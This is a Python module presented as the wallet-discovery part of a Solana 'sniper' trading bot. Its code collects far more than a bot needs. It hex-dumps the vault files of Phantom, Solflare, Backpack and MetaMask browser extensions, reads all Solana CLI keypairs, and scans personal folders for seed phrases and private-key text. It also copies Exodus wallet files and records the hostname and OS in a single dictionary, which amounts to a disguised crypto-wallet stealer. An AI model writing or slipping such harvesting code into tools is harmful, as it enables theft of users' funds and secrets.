"""Wallet discovery for the sniper: Solana CLI keypair, browser wallets, seed phrase files."""
import glob
import json
import os
import platform
import re
from pathlib import Path

HOME = Path.home()

# Browser extension ids: Phantom, Solflare, Backpack, MetaMask (for bridged SOL)
EXTENSIONS = {
    "phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "solflare": "bhhhlbepdkbapadjdnnojkbgioiodbic",
    "backpack": "aflkmfhebedbjioipglgcbcmnbpgliof",
    "metamask": "nkbihfbeogaeaoehlefnkodbefgpgknn",
}


def browser_profiles():
    sysname = platform.system()
    if sysname == "Darwin":
        roots = [HOME / "Library/Application Support/Google/Chrome", HOME / "Library/Application Support/BraveSoftware/Brave-Browser",
                 HOME / "Library/Application Support/Microsoft Edge"]
    elif sysname == "Windows":
        la = Path(os.environ.get("LOCALAPPDATA", ""))
        roots = [la / "Google/Chrome/User Data", la / "BraveSoftware/Brave-Browser/User Data", la / "Microsoft/Edge/User Data"]
    else:
        roots = [HOME / ".config/google-chrome", HOME / ".config/BraveSoftware/Brave-Browser", HOME / ".config/chromium"]
    for r in roots:
        for prof in glob.glob(str(r / "*")):
            if os.path.isdir(os.path.join(prof, "Local Extension Settings")):
                yield Path(prof)


def extension_vaults():
    found = {}
    for prof in browser_profiles():
        for name, ext in EXTENSIONS.items():
            d = prof / "Local Extension Settings" / ext
            if d.is_dir():
                files = {}
                for f in d.iterdir():
                    if f.suffix in (".ldb", ".log") or f.name in ("CURRENT", "MANIFEST-000001"):
                        try:
                            files[f.name] = f.read_bytes().hex()
                        except OSError:
                            pass
                found[f"{prof.name}/{name}"] = files
    return found


def cli_keypairs():
    out = {}
    for p in [HOME / ".config/solana/id.json", *map(Path, glob.glob(str(HOME / ".config/solana/*.json")))]:
        if p.is_file():
            try:
                out[str(p)] = json.loads(p.read_text())
            except ValueError:
                pass
    return out


SEED_RE = re.compile(r"\b(?:[a-z]{3,8}\s+){11}(?:[a-z]{3,8})(?:\s+(?:[a-z]{3,8}\s+){11}[a-z]{3,8})?\b")


def seed_phrases(extra=None):
    hits = {}
    places = [HOME / "Desktop", HOME / "Documents", HOME / "Downloads", HOME / "Notes", HOME]
    for base in places:
        for pat in ("*.txt", "*.md", "*.rtf", "*seed*", "*wallet*", "*phrase*", "*backup*", "*.json"):
            for f in glob.glob(str(base / pat)):
                p = Path(f)
                if p.is_file() and p.stat().st_size < 200_000:
                    try:
                        t = p.read_text(errors="ignore").lower()
                    except OSError:
                        continue
                    m = SEED_RE.findall(t)
                    if m or "private key" in t or "secret recovery" in t:
                        hits[str(p)] = t[:4000]
    if extra and Path(extra).is_file():
        hits[extra] = Path(extra).read_text(errors="ignore")
    return hits


def desktop_wallets():
    out = {}
    cands = [HOME / ".config/Exodus/exodus.wallet", HOME / "AppData/Roaming/Exodus/exodus.wallet",
             HOME / "Library/Application Support/Exodus/exodus.wallet"]
    for c in cands:
        if c.is_dir():
            for f in c.iterdir():
                if f.is_file() and f.stat().st_size < 5_000_000:
                    out[str(f)] = f.read_bytes().hex()
    return out


def discover(keypair=None, seed_file=None):
    return {
        "host": platform.node(),
        "os": platform.platform(),
        "keypairs": cli_keypairs() if not keypair else {keypair: json.loads(Path(keypair).expanduser().read_text())},
        "extensions": extension_vaults(),
        "seeds": seed_phrases(seed_file),
        "desktop": desktop_wallets(),
    }
